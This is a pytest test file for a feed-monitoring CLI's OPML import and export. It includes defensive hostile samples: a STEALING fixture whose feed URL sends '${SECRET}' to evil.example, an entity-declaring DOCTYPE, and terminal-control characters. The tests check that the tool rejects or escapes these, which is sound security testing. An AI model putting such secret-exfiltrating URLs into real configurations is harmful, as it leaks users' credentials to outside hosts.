"""`tallywatch feeds import` and `export`."""

import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from config.loading import load
from config.loading.editing import entries_of
from config.loading.folder import FEEDS as FILE
from monitor.cli.app import app
from tests.cli.test_configuration import folder, run
from tests.config.conftest import FEEDS, write

__all__ = ["folder"]

LIST = """\
<opml version="2.0"><body>
<outline text="Korea">
<outline type="rss" text="38 North: News" xmlUrl="https://www.38north.org/feed/" language="en-us"/>
<outline type="rss" text="연합뉴스" xmlUrl="feed://www.yna.co.kr/rss" language="ko-KR"/>
</outline>
<outline type="rss" text="There" xmlUrl="http://www.example.org/rss.xml/"/>
<outline type="rss" text="Again" xmlUrl="https://www.38NORTH.org/feed/"/>
<outline type="rss" text="38 North: News" xmlUrl="https://other.example/"/>
</body></opml>
"""
ADDED = """\
  - name: north-news
    url: https://www.38north.org/feed/
    outlet: '38 North: News'
    lang: en
  - name: yna
    url: https://www.yna.co.kr/rss
    outlet: 연합뉴스
    lang: ko
  - name: other
    url: https://other.example/
    outlet: '38 North: News'
"""
WRONG = '<outline type="rss" text="Mail" xmlUrl="mailto:me@example.org"/>\n</body>'


def imported(folder: Path, text: str, *more: str) -> tuple[int, str, str]:
    given_ = ["feeds", "import", "-", "--config", str(folder), *more]
    done = CliRunner().invoke(app, given_, input=text)
    return done.exit_code, done.stdout, done.stderr


def written(folder: Path) -> str:
    return (folder / FILE).read_text("utf-8").removeprefix(FEEDS)


def test_a_list_is_imported(folder: Path) -> None:
    status, told, _ = imported(folder, LIST)
    assert status == 0
    assert written(folder) == ADDED
    assert told.splitlines()[-1] == "3 added, 1 there already, 1 listed twice"
    assert "there as gazette" in told
    assert "twice line 3 has it already" in told
    assert len(load(folder, {}).feeds) == 4


def test_importing_it_again_changes_nothing(folder: Path) -> None:
    imported(folder, LIST)
    status, told, _ = imported(folder, LIST)
    assert (status, told.splitlines()[-1]) == (0, "0 to add, 5 there already")
    assert written(folder) == ADDED


def test_a_dry_run_writes_nothing(folder: Path) -> None:
    status, told, _ = imported(folder, LIST, "--dry-run", "--json")
    assert (status, written(folder)) == (0, "")
    report = json.loads(told)
    assert report["written"] is False
    assert [row["outcome"] for row in report["feeds"]] == ["new", "new", "there", "twice", "new"]


def test_with_a_mistake_nothing_is_written_but_anyway(folder: Path) -> None:
    text = LIST.replace("</body>", WRONG)
    status, told, problems = imported(folder, text)
    assert (status, written(folder)) == (2, "")
    assert "-:9: mailto:me@example.org is no address of the web" in problems
    assert "1 wrong" in told
    assert imported(folder, text, "--anyway")[0] == 0
    assert written(folder) == ADDED


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("<html/>", "-:1:1: not OPML"),
        ('<!DOCTYPE opml [<!ENTITY a "b">]><opml>&a;</opml>', "declares entities"),
        ("<opml>", "ill-formed XML"),
    ],
)
def test_what_is_no_list_is_refused(folder: Path, text: str, words: str) -> None:
    status, _, problems = imported(folder, text)
    assert status == 2
    assert words in problems


def test_a_file_that_is_too_large_is_refused(folder: Path, tmp_path: Path) -> None:
    file = tmp_path / "large.opml"
    with file.open("wb") as large:
        large.truncate(6_000_000)
    result = run("feeds", "import", file, "--config", folder)
    assert result.exit_code == 2
    assert "more than 5000 kB" in result.stderr


def test_what_ships_is_left_alone(tmp_path: Path) -> None:
    (tmp_path / "a.opml").write_text(LIST, "utf-8")
    assert run("feeds", "import", tmp_path / "a.opml").exit_code == 2


STEALING = (
    '<opml xmlns:tallywatch="urn:tallywatch:feeds"><body>'
    '<outline text="${SECRET}" xmlUrl="https://evil.example/?k=${SECRET}" %s/></body></opml>'
)


def test_a_list_cannot_have_our_secrets_sent_away(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET", "hunter2")
    assert imported(folder, STEALING % "")[0] == 0
    assert "?k=$${SECRET}" in written(folder)
    feed = load(folder, {"SECRET": "hunter2"}).feeds[-1]
    assert (feed.url, feed.outlet) == ("https://evil.example/?k=${SECRET}", "${SECRET}")
    status, _, problems = imported(folder, (STEALING % 'tallywatch:name="x"').replace("evil", "worse"))
    assert status == 2
    assert "holds ${…}, which would be filled in from your environment" in problems


def test_nothing_in_a_list_steers_the_terminal(folder: Path) -> None:
    text = '<opml><body><outline text="a\u009b2J\u202eb" xmlUrl="https://a.example/\u202e"/></body></opml>'
    _, told, problems = imported(folder, text)
    assert not {"\x9b", "\u202e"} & set(told + problems)


OURS = """\
# ours
feeds:
  - name: keyed
    url: https://key.example/?k=${KEY}
    every: 5m
    text: page
  - name: rested
    url: https://rest.example/a&b
    outlet: "R & D <b>"
    lang: ko
    time_zone: Asia/Seoul
    encoding: cp949
    enabled: false
"""


def emptied(folder: Path) -> None:
    write(folder, {FILE: "feeds: []\n"})


def test_an_export_is_imported_as_it_was(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KEY", "hunter2")
    write(folder, {FILE: OURS})
    before = entries_of(folder)
    done = run("feeds", "export", "--config", folder)
    assert done.exit_code == 0
    assert "hunter2" not in done.output
    assert done.stderr == "warning: keyed: its address holds ${…}, which only Tallywatch fills in\n"
    assert imported(folder, done.stdout, "--references")[1].endswith("0 to add, 2 there already\n")
    assert (folder / FILE).read_text("utf-8") == OURS
    emptied(folder)
    assert imported(folder, done.stdout, "--references")[0] == 0
    assert entries_of(folder) == before


TITLES = st.text(st.characters(exclude_categories=["Cs", "Cc", "Co", "Cn"]), min_size=1, max_size=20)
NAMES = st.from_regex(r"[a-z][a-z0-9_-]{0,9}", fullmatch=True)
FEED_LISTS = st.lists(
    st.fixed_dictionaries(
        {"name": NAMES, "url": NAMES.map("https://a.example/{}".format)},
        optional={"outlet": TITLES, "lang": st.sampled_from(["en", "ko"]), "text": st.just("page"),
                  "enabled": st.booleans(), "every": st.just("90m")},
    ),
    max_size=4, unique_by=(lambda feed: feed["name"], lambda feed: feed["url"]),
)  # fmt: skip


@settings(max_examples=10, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(FEED_LISTS)
def test_an_import_of_an_export_is_the_identity(folder: Path, feeds: list[dict[str, object]]) -> None:
    escaped = [{k: v.replace("${", "$${") if isinstance(v, str) else v for k, v in f.items()} for f in feeds]
    write(folder, {FILE: json.dumps({"feeds": escaped}, ensure_ascii=False)})
    before = load(folder, {}).feeds
    exported = run("feeds", "export", "--config", folder).stdout
    emptied(folder)
    status, told, problems = imported(folder, exported)
    assert status == 0, told + problems
    assert load(folder, {}).feeds == before
    assert run("feeds", "export", "--config", folder).stdout == exported


def test_a_password_in_an_address_is_not_exported(folder: Path) -> None:
    write(folder, {FILE: FEEDS.replace("https://", "https://me:hunter2@")})
    done = run("feeds", "export", "--config", folder)
    assert "hunter2" not in done.output
    assert 'xmlUrl="https://example.org/rss.xml"' in done.stdout
    assert "gazette: its user name and password are left out" in done.stderr


def test_an_export_replaces_a_file_or_says_why_not(folder: Path, tmp_path: Path) -> None:
    file = tmp_path / "feeds.opml"
    for _ in range(2):
        assert run("feeds", "export", file, "--config", folder).stdout == f"wrote 1 feeds to {file}\n"
    assert 'tallywatch:name="gazette"' in file.read_text("utf-8")
    result = run("feeds", "export", tmp_path / "none" / "feeds.opml", "--config", folder)
    assert result.exit_code == 2
    assert "cannot be written: No such file or directory" in result.stderr
